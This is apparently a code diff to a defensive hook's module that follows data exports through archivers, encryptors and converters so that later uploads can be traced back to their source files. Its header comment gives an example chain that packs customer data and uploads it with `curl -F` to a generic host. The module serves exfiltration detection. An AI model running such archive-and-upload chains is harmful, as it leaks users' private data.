@@ -1,7 +1,9 @@
 // What an archiver on the command line packs, and into which file: `tar czf out.tgz exports`, `zip
 // -r out.zip exports`, `7z a out.7z exports`, `gzip -k customers.csv`; and what an encryptor writes
-// (`gpg -c customers.csv` into customers.csv.gpg, `age -r KEY -o c.age customers.csv`), which holds
-// the same data for whoever has the key. The hook reads the archive a later command sends (`&& curl
+// (`gpg -c customers.csv` into customers.csv.gpg, `age -r KEY -o c.age customers.csv`, `openssl enc
+// -in customers.csv -out c.enc`), which holds the same data for whoever has the key, or a converter
+// (`pandoc customers.md -o c.docx`, `soffice --convert-to pdf customers.csv`), which holds it in
+// another form. The hook reads the archive a later command sends (`&& curl
 // -F f=@out.tgz host`) as the files packed into it.
 import { basename, optionAndValue } from './bash.ts';
 import { localPath } from './own-files.ts';
@@ -28,6 +30,12 @@ export function archiveWrites(argv: readonly string[], cwd: string): ArchiveWrit
     return [{ file: operands[1], sources: operands.slice(2).map((word) => ({ word, cwd })) }];
   }
   if (program === 'gpg' || program === 'gpg2') return gpgWrites(args, cwd);
+  if (program === 'openssl') return opensslWrites(args, cwd);
+  if (program === 'pandoc') {
+    const { operands, output } = encryptorWords(args, PANDOC_VALUE_OPTIONS, ['-o', '--output']);
+    return output === undefined ? [] : [{ file: output, sources: operands.filter((word) => word !== '-').map((word) => ({ word, cwd })) }];
+  }
+  if (program === 'soffice' || program === 'libreoffice') return officeWrites(args, cwd);
   if (program === 'age') {
     const { operands, output } = encryptorWords(args, AGE_VALUE_OPTIONS, ['-o', '--output']);
     if (args.some((a) => a === '-d' || a === '--decrypt')) return [];
@@ -89,6 +97,39 @@ function zipWrites(args: readonly string[], cwd: string): ArchiveWrite[] {
 const GPG_VALUE_OPTIONS = new Set(['-o', '--output', '-r', '--recipient', '-R', '--hidden-recipient', '-u', '--local-user', '-z', '--passphrase', '--passphrase-file', '--passphrase-fd', '--pinentry-mode', '--homedir', '--cipher-algo', '--digest-algo', '--compress-algo', '--s2k-cipher-algo', '--s2k-digest-algo', '--trust-model', '--keyring', '--default-key', '--set-filename', '--comment']);
 /** age's. */
 const AGE_VALUE_OPTIONS = new Set(['-o', '--output', '-r', '--recipient', '-R', '--recipients-file', '-i', '--identity']);
+
+/** pandoc's options that take the next word as a value. */
+const PANDOC_VALUE_OPTIONS = new Set(['-f', '--from', '-r', '--read', '-t', '--to', '-w', '--write', '--template', '-M', '--metadata', '--metadata-file', '-V', '--variable', '--resource-path', '-c', '--css', '-H', '--include-in-header', '-B', '--include-before-body', '-A', '--include-after-body', '--bibliography', '--csl', '--reference-doc', '-L', '--lua-filter', '-F', '--filter', '--pdf-engine', '--pdf-engine-opt', '--data-dir', '--extract-media', '--toc-depth', '--shift-heading-level-by', '--columns', '--dpi', '--wrap', '--eol', '--tab-stop', '--highlight-style', '--syntax-definition', '--epub-cover-image', '--epub-metadata', '--epub-embed-font', '--abbreviations', '--default-image-extension', '--id-prefix', '--title-prefix', '--number-offset', '--top-level-division', '--email-obfuscation', '--ipynb-output', '--log', '-d', '--defaults']);
+
+/**
+ * `openssl enc|base64|smime|cms ... -in FILE -out OUT`: OUT holds FILE's data, encoded or
+ * encrypted for whoever has the key (without `-out`, its output: the pass-through reading). Not a
+ * decryption (`-d`, `-decrypt`, `-verify`).
+ */
+function opensslWrites(args: readonly string[], cwd: string): ArchiveWrite[] {
+  if (!['enc', 'base64', 'smime', 'cms', 'pkeyutl', 'rsautl'].includes(args[0] ?? '') && !/^-?(?:aes|des|chacha|camellia|aria|sm4|bf|cast)/i.test(args[0] ?? '')) return [];
+  if (args.some((a) => a === '-d' || a === '-decrypt' || a === '-verify')) return [];
+  const value = (name: string) => {
+    const at = args.indexOf(name);
+    return at < 0 ? undefined : args[at + 1];
+  };
+  const input = value('-in');
+  const output = value('-out');
+  return input === undefined || output === undefined ? [] : [{ file: output, sources: [{ word: input, cwd }] }];
+}
+
+/** `soffice --headless --convert-to pdf [--outdir DIR] FILE...`: each FILE converted into DIR (else the folder it runs in), named FILE's name with the new format's extension. */
+function officeWrites(args: readonly string[], cwd: string): ArchiveWrite[] {
+  const at = args.indexOf('--convert-to');
+  if (at < 0 || args[at + 1] === undefined) return [];
+  const extension = args[at + 1]!.split(':')[0]!;
+  const outdir = args.indexOf('--outdir') >= 0 ? args[args.indexOf('--outdir') + 1] : undefined;
+  const files = args.filter((a, k) => !a.startsWith('-') && k !== at + 1 && (outdir === undefined || k !== args.indexOf('--outdir') + 1));
+  return files.map((file) => {
+    const name = `${file.split('/').at(-1)!.replace(/\.[^.]*$/, '')}.${extension}`;
+    return { file: outdir === undefined ? name : `${outdir.replace(/\/+$/, '')}/${name}`, sources: [{ word: file, cwd }] };
+  });
+}
 
 /** An encryptor's operands and where its output goes (`-o file`, `--output=file`; `-` its output). */
 function encryptorWords(args: readonly string[], valueOptions: ReadonlySet<string>, outputOptions: readonly string[]): { operands: string[]; output: string | undefined } {
